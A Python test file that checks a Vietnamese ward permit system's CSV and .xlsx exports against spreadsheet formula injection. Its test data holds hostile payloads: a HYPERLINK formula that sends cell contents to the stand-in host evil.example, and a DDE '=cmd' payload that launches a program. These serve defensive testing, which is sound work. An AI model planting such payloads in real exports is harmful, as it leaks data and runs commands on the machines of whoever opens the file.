"""Issue 14, CSV exports: text that others typed (addresses, owners, reasons, procedure titles)
cannot run as a formula when the supervisors' list or gen's manifest.csv is opened in Excel or
LibreOffice, whichever list separator the spreadsheet uses.

Each export is read as a spreadsheet would read it, with ',' and again with ';' as the
separator (Python's csv, which splits and unquotes as they do), and no cell may start with
=, +, -, @ (also after spaces, or their full-width forms), a tab or a line break; the values
come back, apostrophes aside, as they were typed.

The supervisors' list is also an .xlsx workbook, opened here with Debian's openpyxl: no cell is
a formula, every text cell is a string that reads back exactly as typed (no apostrophes), the
open-report count is a number, and the rows are the CSV's. Cell text is compared as Excel and
LibreOffice show it: OOXML strings escape characters as _xHHHH_ (ECMA-376, ST_Xstring), which
openpyxl leaves undecoded in inline strings, so the test decodes them as a spreadsheet does.
"""

import csv
import io
import os
import re
import sys
import unicodedata
import unittest
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mc  # noqa: E402
import openpyxl  # noqa: E402  (Debian's python3-openpyxl)

SLUG = mc.SLUG
PASSWORD = "mat-khau-giam-sat-14"
STAFF_PASSWORD = "mat-khau-can-bo-14"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
NUMBERS = ("900/GPXD-CSV", "901/GPXD-CSV", "902/GPXD-CSV")
TRIGGERS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# What an attacker types into a permit (a ward's import) and a procedure title.
NASTY = {
    "address": '=HYPERLINK("http://evil.example/?"&A1;"Bấm vào đây")',
    "owner_name": "Nguyễn Văn Bé;=1+1",
    "scope": 'Sửa mái, -2+3 tầng, "@SUM(A1:A9)"',
    "status_reason": '@SUM(1;2); =cmd|" /C calc"!A0',
}
NASTY2 = {
    "address": "12 Lê Lợi,+1+2",
    "owner_name": "\uff1d1+1 Trần",
    "scope": 'Xây mới;" =2*3"',
    "status_reason": "Đình chỉ, \"+84 909\"",
}
# Typed the way Excel itself would escape characters in a cell (_xHHHH_): shown as typed, never
# as the bidi override or the '=' they stand for; a sign, a line break, a tab, full-width forms.
NASTY3 = {
    "address": "_x202E_ 7 Hàm Nghi, Phường Bến Thành",
    "owner_name": "+84 Phạm Thị Hồng Ánh",
    "scope": "Tầng trệt\n-1 tầng hầm\t@A1:B2\nGhi chú: _x003D_1+1_x0041_x0042_",
    "status_reason": "\uff0bSửa lại; \uff20HYPERLINK(\"x\")",
}
TITLES = ['=HYPERLINK("http://evil.example";"Khai sinh")', "Đăng ký;-1+1", "@Kết hôn, =2+2"]


def risky(cell):
    """Whether a spreadsheet would take this cell for a formula or a command."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    return cell.lstrip(" ").startswith(TRIGGERS)


def read(text, sep):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


def with_tmpdir(path, fn):
    """fn() with TMPDIR set to path, as the servers it starts see it."""
    old = os.environ.get("TMPDIR")
    os.environ["TMPDIR"] = path
    try:
        return fn()
    finally:
        if old is None:
            os.environ.pop("TMPDIR", None)
        else:
            os.environ["TMPDIR"] = old


def excel_text(value):
    """A string cell's text as a spreadsheet shows it: _xHHHH_ decoded (ECMA-376 ST_Xstring)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def sign_in(port, name, password):
    c = mc.Client(port)
    form = mc.find_form(c.get("/staff/login").body, "/staff/login")
    r = c.post("/staff/login", {"name": name, "password": password,
                                "csrf": mc.form_value(form, "csrf")})
    assert r.status == 303, mc.describe(r)
    return c


class Exports(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.t = mc.TempDir()
        cls.db = mc.new_db(cls.t, "exports.db")
        cls.srv = None
        r = mc.run(["demo", "--db", cls.db])
        assert r.rc == 0, r
        rows = [mc.permit_row("900/GPXD-CSV", status="suspended", **NASTY),
                mc.permit_row("901/GPXD-CSV", status="suspended", **NASTY2),
                mc.permit_row("902/GPXD-CSV", status="suspended", **NASTY3)]
        path = mc.write_csv(cls.t.join("permits.csv"), mc.PERMIT_COLUMNS, rows)
        r = mc.run(["import", "--db", cls.db, "--ward", SLUG, path])
        assert r.rc == 0, r
        procs = [mc.procedure_row("9.%03d" % i, title) for i, title in enumerate(TITLES)]
        path = mc.write_csv(cls.t.join("procedures.csv"), mc.PROCEDURE_COLUMNS, procs)
        r = mc.run(["import", "--db", cls.db, "--ward", SLUG, path])
        assert r.rc == 0, r
        mc.add_user(cls.db, "giamsat", "supervisor", PASSWORD)
        mc.add_user(cls.db, "canbo", "staff", STAFF_PASSWORD, ward=SLUG)
        # The server's own temporary folder, to see that an export leaves nothing in it.
        cls.tmp = cls.t.join("tmp")
        os.mkdir(cls.tmp)
        cls.srv = with_tmpdir(cls.tmp, lambda: mc.start_server_with_base(cls.db))

    @classmethod
    def tearDownClass(cls):
        try:
            if cls.srv:
                cls.srv.close()
        finally:
            cls.t.cleanup()

    def assert_inert(self, text, values):
        """No cell is a formula with either separator, and every value is there as typed."""
        for sep in (",", ";"):
            for row in read(text, sep):
                for cell in row:
                    self.assertFalse(risky(cell), "with %r a cell is a formula: %r" % (sep, cell))
        cells = {c.replace("'", "") for row in read(text, ",") for c in row}
        for v in values:
            self.assertIn(v.replace("'", ""), cells, "the value comes back as typed")

    def test_supervisor_list(self):
        held = mc.sql(self.db, "SELECT count(*) FROM permit WHERE number LIKE '90_/GPXD-CSV' "
                               "AND owner_name IN ('%s', '%s', '%s');"
                      % (NASTY["owner_name"], NASTY2["owner_name"], NASTY3["owner_name"]))
        self.assertEqual(held, "3", "the import took the values as they are")
        for number, typed in zip(NUMBERS, (NASTY, NASTY2, NASTY3)):
            for col, v in typed.items():
                got = mc.sql(self.db, "SELECT %s FROM permit WHERE number = '%s';"
                             % (col, number))
                self.assertEqual(got, v, "the import kept %s of %s as typed" % (col, number))
        c = sign_in(self.srv.port, "giamsat", PASSWORD)
        r = c.get("/supervise/permits?list=all&format=csv")
        self.assertEqual(r.status, 200, mc.describe(r))
        self.assertEqual(r.header("Content-Type"), "text/csv; charset=utf-8")
        text = r.body.decode("utf-8-sig")
        self.assertIn("900/GPXD-CSV", text)
        self.assert_inert(text, list(NASTY.values()) + list(NASTY2.values()) +
                          list(NASTY3.values()))

    # --- the same list as an .xlsx workbook --------------------------------------------------

    def csv_of(self, c, query):
        r = c.get("/supervise/permits?%s&format=csv" % query)
        self.assertEqual(r.status, 200, mc.describe(r))
        return read(r.body.decode("utf-8-sig"), ",")

    def xlsx_of(self, c, query):
        """The workbook's one sheet as rows of openpyxl cells, after checking the answer."""
        r = c.get("/supervise/permits?%s&format=xlsx" % query)
        self.assertEqual(r.status, 200, mc.describe(r))
        self.assertEqual(r.header("Content-Type"), XLSX)
        self.assertEqual(r.header("Cache-Control"), "private, no-store")
        self.assertRegex(r.header("Content-Disposition") or "",
                         r'^attachment; filename="giam-sat-[a-z]+-\d{4}-\d{2}-\d{2}\.xlsx"$')
        self.assertTrue(r.body.startswith(b"PK\x03\x04"), r.body[:20])
        with zipfile.ZipFile(io.BytesIO(r.body)) as z:
            self.assertIsNone(z.testzip(), "the archive is whole")
            for name in z.namelist():
                if name.endswith(".xml"):
                    xml = z.read(name).decode("utf-8")
                    self.assertIsNone(re.search(r"<f[ >/]", xml), "a formula in %s" % name)
                    self.assertNotIn("<definedName", xml, name)
            self.assertFalse([n for n in z.namelist() if "externalLink" in n])
        wb = openpyxl.load_workbook(io.BytesIO(r.body))
        self.assertEqual(len(wb.worksheets), 1)
        rows = [list(row) for row in wb.worksheets[0].iter_rows()]
        for row in rows:
            for cell in row:
                self.assertNotEqual(cell.data_type, "f", "a formula: %r" % cell.value)
                self.assertIn(cell.data_type, ("s", "n"), "%s: %r" % (cell.coordinate,
                                                                      cell.value))
                if isinstance(cell.value, str):
                    self.assertEqual(cell.data_type, "s")
        return rows

    def text_of(self, cell):
        return "" if cell.value is None else excel_text(cell.value)

    def test_supervisor_xlsx(self):
        c = sign_in(self.srv.port, "giamsat", PASSWORD)
        csv_rows = self.csv_of(c, "list=all")
        rows = self.xlsx_of(c, "list=all")
        head = [self.text_of(x) for x in rows[0]]
        self.assertEqual(head, csv_rows[0], "the CSV's Vietnamese headers")
        self.assertEqual(head[:3], ["Phường", "Số giấy phép", "Loại"])
        self.assertTrue(rows[0][0].font.b, "a bold header row")
        self.assertEqual(len(rows), len(csv_rows), "as many rows as the CSV")
        self.assertGreater(len(rows), 3)
        count_col = head.index("Phản ánh chưa xử lý")
        number_col = head.index("Số giấy phép")
        for row, line in zip(rows[1:], csv_rows[1:]):
            self.assertEqual(len(row), len(line))
            n = row[count_col]
            self.assertEqual(n.data_type, "n")
            self.assertIs(type(n.value), int, "the open-report count is a number")
            self.assertEqual(n.value, int(line[count_col]))
            for j, (cell, want) in enumerate(zip(row, line)):
                if j != count_col and "'" not in want:
                    self.assertEqual(self.text_of(cell), want, "as the CSV has it")
        by_number = {self.text_of(r[number_col]): r for r in rows[1:]}
        cols = {"address": "Địa chỉ", "owner_name": "Chủ đầu tư", "scope": "Nội dung",
                "status_reason": "Lý do"}
        for number, typed in zip(NUMBERS, (NASTY, NASTY2, NASTY3)):
            row = by_number[number]
            for key, v in typed.items():
                got = self.text_of(row[head.index(cols[key])])
                self.assertEqual(got, v, "%s of %s comes back exactly as typed" % (key, number))
                self.assertTrue(unicodedata.is_normalized("NFC", got))
        self.assertEqual(self.text_of(by_number["902/GPXD-CSV"][head.index("Chủ đầu tư")]),
                         "+84 Phạm Thị Hồng Ánh")
        self.assertEqual(os.listdir(self.tmp), [], "no temporary file is left behind")

    def test_xlsx_filters(self):
        c = sign_in(self.srv.port, "giamsat", PASSWORD)
        every = None
        for query in ("list=all", "list=halted", "list=all&status=suspended",
                      "list=expiring", "list=all&ward=%s&date=ends&from=2099-01-01" % SLUG):
            want = [line[1] for line in self.csv_of(c, query)[1:]]
            got = [self.text_of(r[1]) for r in self.xlsx_of(c, query)[1:]]
            self.assertEqual(got, want, query)
            if every is None:
                every = len(got)
            elif query in ("list=halted", "list=all&status=suspended"):
                self.assertTrue(set(NUMBERS) <= set(got), query)
                self.assertLess(len(got), every, "the filter limits the rows: %s" % query)
        r = c.get("/supervise/permits?list=all&format=pdf")
        self.assertEqual(r.status, 400, mc.describe(r))
        # The list's page links to both files of what it shows.
        page = c.get("/supervise/permits?list=halted&status=suspended")
        self.assertEqual(page.status, 200, mc.describe(page))
        hrefs = {a: h for h, a in re.findall(r'<a [^>]*href="([^"]+)"[^>]*>([^<]+)</a>',
                                               page.text)}
        self.assertIn("Tải tệp Excel (.xlsx)", hrefs)
        link = hrefs["Tải tệp Excel (.xlsx)"].replace("&amp;", "&")
        self.assertEqual(link, hrefs["Tải tệp CSV (Excel)"].replace("&amp;", "&")
                         .replace("format=csv", "format=xlsx"))
        path, query = link.split("?", 1)
        self.assertEqual(path, "/supervise/permits")
        self.assertTrue(query.endswith("&format=xlsx"), query)
        query = query[:-len("&format=xlsx")]
        got = [self.text_of(r[1]) for r in self.xlsx_of(c, query)[1:]]
        self.assertEqual(got, [line[1] for line in self.csv_of(c, query)[1:]], query)
        self.assertTrue(set(NUMBERS) <= set(got))

    def test_xlsx_refused(self):
        anon = mc.Client(self.srv.port)
        staff = sign_in(self.srv.port, "canbo", STAFF_PASSWORD)
        for c, status in ((anon, 303), (staff, 403)):
            for fmt in ("csv", "xlsx"):
                r = c.get("/supervise/permits?list=all&format=" + fmt)
                self.assertEqual(r.status, status, mc.describe(r))
                self.assertNotIn(r.header("Content-Type") or "", (XLSX, "text/csv; charset=utf-8"))
                self.assertFalse(r.body.startswith(b"PK"), "no workbook")
                self.assertNotIn(b"900/GPXD-CSV", r.body)

    def test_xlsx_error_page(self):
        # Where no temporary file can be made, the supervisor gets an error page, not a file.
        srv = with_tmpdir(self.t.join("no-such-dir"), lambda: mc.start_server_with_base(self.db))
        try:
            c = sign_in(srv.port, "giamsat", PASSWORD)
            r = c.get("/supervise/permits?list=all&format=xlsx")
            self.assertEqual(r.status, 503, mc.describe(r))
            self.assertTrue((r.header("Content-Type") or "").startswith("text/html"),
                            mc.describe(r))
            self.assertEqual(r.header("Content-Disposition"), None)
            self.assertFalse(r.body.startswith(b"PK"))
            r = c.get("/supervise/permits?list=all&format=csv")
            self.assertEqual(r.status, 200, "the CSV does not need the folder")
        finally:
            srv.close()

    def test_gen_manifest(self):
        out = self.t.join("gen")
        r = mc.run(["gen", "--db", self.db, "--base-url", "http://127.0.0.1:8080",
                    "--kind", "procedure", "--format", "svg", "--out", out])
        self.assertEqual(r.rc, 0, r)
        with open(os.path.join(out, "manifest.csv"), encoding="utf-8", newline="") as f:
            text = f.read()
        self.assert_inert(text, TITLES)


if __name__ == "__main__":
    mc.main()
